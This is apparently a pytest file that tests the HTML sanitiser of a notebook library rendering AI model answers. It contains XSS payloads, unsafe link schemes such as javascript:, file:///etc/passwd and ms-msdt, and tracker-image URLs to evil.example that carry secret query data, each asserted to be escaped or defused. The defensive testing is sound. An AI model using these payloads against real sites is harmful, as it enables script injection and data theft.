"""Safe HTML (nbresponses/render/_html.py): untrusted Markdown, math kept whole, the static HTML of a turn."""

from __future__ import annotations

import base64
import html
import re

import pytest

from nbresponses.render import TurnOutcome
from nbresponses.render._bundle import outcome_html, outcome_markdown
from nbresponses.render._html import DOLLAR_HTML, markdown_to_html, render_markdown
from nbresponses.types.response import Response
from tests.render_fakes import visible


@pytest.mark.parametrize(
    "attack",
    ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<iframe src=https://evil.example>",
     '<a href="javascript:alert(1)">x</a>', "<style>body{display:none}</style>"],
)  # fmt: skip
def test_raw_html_in_an_answer_is_escaped(attack: str) -> None:
    rendered = markdown_to_html(f"Look: {attack}\n\n{attack}")
    assert "<" + attack[1:] not in rendered
    assert visible(rendered).count(attack) == 2  # shown as the text it is


@pytest.mark.parametrize(
    "link",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)",
     "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "ms-msdt:/id%20PCWDiagnostic"],
)  # fmt: skip
def test_links_to_unsafe_schemes_are_not_links(link: str) -> None:
    for markdown in (f"[click]({link})", f"[click][r]\n\n[r]: {link}", f"<{link}>"):
        assert "href" not in markdown_to_html(markdown), markdown


def test_safe_links_open_in_a_new_tab_without_referrer() -> None:
    rendered = markdown_to_html("[docs](https://docs.example/a_(b)) <mailto:me@example.com> [top](#top)")
    hrefs = re.findall(r'<a href="([^"]*)" target="_blank" rel="noopener noreferrer">', rendered)
    assert hrefs == ["https://docs.example/a_(b)", "mailto:me@example.com", "#top"]


def test_remote_images_become_links_and_data_images_stay_inline() -> None:
    tracker = "https://evil.example/pixel.png?notebook=secret"
    for markdown in (
        f"![chart]({tracker})",
        f"![chart][img]\n\n[img]: {tracker}",
        "![x](//evil.example/p.png)",
    ):
        rendered = markdown_to_html(markdown)
        assert "<img" not in rendered and 'rel="noopener noreferrer"' in rendered and "🖼" in rendered
    assert f'href="{html.escape(tracker)}"' in markdown_to_html(f"![chart]({tracker})")
    inline = markdown_to_html("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />' in inline
    assert "<img" not in markdown_to_html("![svg](data:image/svg+xml;base64,PHN2Zz4=)")


def test_big_data_images_render_as_if_parsed_directly() -> None:
    b64 = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3000).decode()
    small = "iVBORw0KGgo="
    for template in (
        "![generated image](data:image/png;base64,{})\n\n*a cat*",
        "```\ndata:image/png;base64,{}\n```",
        "text data:image/png;base64,{} more",
    ):
        big, reference = markdown_to_html(template.format(b64)), markdown_to_html(template.format(small))
        assert big.replace(b64, small) == reference
    assert f'<img src="data:image/png;base64,{b64}"' in markdown_to_html(f"![g](data:image/png;base64,{b64})")
    lookalike = "data:image/png;base64,NBRIMAGE0X"
    assert lookalike in markdown_to_html(lookalike)


@pytest.mark.parametrize(
    ("markdown", "math"),
    [("The sum $a_1 + b_1$ of *both*", "$a_1 + b_1$"),
     ("Display $$x^*_i = y^*_i$$ here", "$$x^*_i = y^*_i$$"),
     ("$$\n\\frac{a<b}{c_1 * d_2}\n$$", "$$\\frac{a&lt;b}{c_1 * d_2}$$")],
)  # fmt: skip
def test_math_survives_markdown_emphasis_and_is_escaped(markdown: str, math: str) -> None:
    rendered = markdown_to_html(markdown)
    assert math in rendered
    assert "<em>" not in rendered.replace("<em>both</em>", "")


@pytest.mark.parametrize(
    "text",
    ["It costs $5 and $10, or $ 3 with tax.", "Costs are $5 and $10", "$5-$10 a month", "from $20,000 to $30,000",
     "| $0 | 12 | $0 |", "price: $5.99/$6.99", "escaped \\$x$ stays text"],
)  # fmt: skip
def test_prices_are_never_math(text: str) -> None:
    copies = render_markdown(text)
    # In HTML each literal dollar is alone in its element: MathJax pairs "$" only within one run of text.
    assert "$" not in copies.html.replace(DOLLAR_HTML, "")
    assert visible(copies.html).strip().replace("\\", "") in text.replace("\\", "")
    # The Markdown copy escapes them (JupyterLab and GitHub would pair them otherwise), the plain text keeps them.
    assert "$" not in copies.markdown.replace("\\$", "")
    assert copies.plain.count("$") == text.count("$") - text.count("\\$") + text.count("\\$")


@pytest.mark.parametrize(
    ("text", "math"),
    [("Then $x^2$ grows", "$x^2$"), ("$$\\int_0^1 f$$", "$$\\int_0^1 f$$"), ("a $\\$5$ b", "$\\$5$"),
     ("Costs $5, and $x$ is math", None)],
)  # fmt: skip
def test_math_follows_pandocs_rule(text: str, math: str | None) -> None:
    copies = render_markdown(text)
    if math is None:  # "$5, and $": the first "$" after the opening one follows a space: not math
        assert copies.html.count(DOLLAR_HTML) == 1 and "$x$" in copies.html
    else:
        assert math in copies.html and math in copies.markdown and math in copies.plain


def test_code_keeps_its_dollars_and_brackets() -> None:
    rendered = markdown_to_html("`echo $HOME <x>`\n\n```sh\nprint('<b>$x$</b>')\n```")
    assert "<code>echo $HOME &lt;x&gt;</code>" in rendered
    assert "print('&lt;b&gt;$x$&lt;/b&gt;')" in rendered


def answer(text: str) -> Response:
    return Response.model_validate({
        "id": "resp_1", "object": "response", "status": "completed", "model": "gpt-4.1",
        "output": [{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
                    "content": [{"type": "output_text", "text": text, "annotations": []}]}],
    })  # fmt: skip


def test_the_static_html_of_a_turn_escapes_the_models_html_but_keeps_ours() -> None:
    attack = '<img src=x onerror="alert(document.cookie)"> ![p](https://evil.example/p.png?d=secret)'
    reasoning = {
        "type": "reasoning",
        "id": "rs_1",
        "summary": [{"type": "summary_text", "text": "<script>x</script>"}],
    }
    response = Response.model_validate(
        {**answer(attack).to_dict(), "output": [reasoning, *answer(attack).to_dict()["output"]]}
    )
    rendered = outcome_html(TurnOutcome(response=response, status="completed"))
    assert "<img" not in rendered and "<script>" not in rendered
    assert "&lt;script&gt;x&lt;/script&gt;" in rendered
    assert rendered.startswith("<div class='nbresponses'><details><summary>Reasoning summary</summary>")
    markdown = outcome_markdown(TurnOutcome(response=response, status="completed"))
    # The Markdown copy is as safe: the model's tags escaped, the remote image only a link.
    assert not re.search(r"(?<!\\)<(img|script)", markdown) and "\\<img src=x" in markdown
    assert "[🖼 p](https://evil.example/p.png?d=secret)" in markdown and "![" not in markdown
    assert 'href="https://evil.example/p.png?d=secret"' in rendered  # a link, not a loaded image
